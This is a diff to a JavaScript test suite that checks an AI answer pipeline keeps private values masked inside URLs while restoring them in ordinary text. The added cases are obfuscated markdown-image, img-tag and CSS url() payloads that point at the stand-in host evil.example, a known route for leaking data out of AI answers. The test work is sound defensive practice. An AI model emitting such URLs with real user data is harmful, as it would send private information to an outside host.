@@ -69,6 +69,23 @@ describe.each([false, true])('an answer, streamed: %s', (isStreamed) => {
     '<img src="https://evil.example/p?d=a b @">',
     '![x](<https://evil.example/a b/@>)',
     'https:\\\\evil.example\\@',
+    '![x](https:&#47;&#47;evil.example/@)',
+    '![x](https:&#x2f;&#X2F;evil.example/@)',
+    '![x](&sol;&bsol;evil.example/@)',
+    '![x](&#0047&#47evil.example/@)',
+    '![x](https:evil.example/@)',
+    '![x](https:/evil.example/@)',
+    '![x](HTTP&#58;evil.example/@)',
+    '![x](https://evil.example/?q="@)',
+    '![x](https://evil.example/?q=a<b>@)',
+    '![x](https://evil.example/?q=`@`)',
+    "[x]: https://evil.example/?q='@",
+    '<img src=https://evil.example/?q=\u00a0@>',
+    '<img src="/&#x09;/evil.example/a b @">',
+    '<img src="/&Tab;/evil.example/@">',
+    '<img src="/\n/evil.example/a b @">',
+    '<img src=" //evil.example/a b @">',
+    '<p style="background:url(&quot;https://evil.example/a @&quot;)">',
   ])('keeps placeholders in an address: %s', async (text) => {
     expect(await answered(text, isStreamed)).toMatch(PLACEHOLDER);
   });
@@ -77,6 +94,13 @@ describe.each([false, true])('an answer, streamed: %s', (isStreamed) => {
     ['to @, or mailto:@', 'to ana@example.com, or mailto:ana@example.com'],
     ['see https://a.example/ and @.', 'see https://a.example/ and ana@example.com.'],
     ['<https://a.example/a b> @', '<https://a.example/a b> ana@example.com'],
+    ['<p>https://a.example</p><p>@</p>', '<p>https://a.example</p><p>ana@example.com</p>'],
+    ['<a href="https://a.example/">@</a>', '<a href="https://a.example/">ana@example.com</a>'],
+    [
+      '[x](https://a.example) (@) q=@&amp;@',
+      '[x](https://a.example) (ana@example.com) q=ana@example.com&amp;ana@example.com',
+    ],
+    ['http: @, "b" https://a.example/ @', 'http: ana@example.com, "b" https://a.example/ ana@example.com'],
     ['a/b @ "x" \'y\' awww.@', 'a/b ana@example.com "x" \'y\' awww.ana@example.com'],
   ])('puts values back elsewhere: %s', async (text, expected) => {
     expect(await answered(text, isStreamed)).toBe(expected);
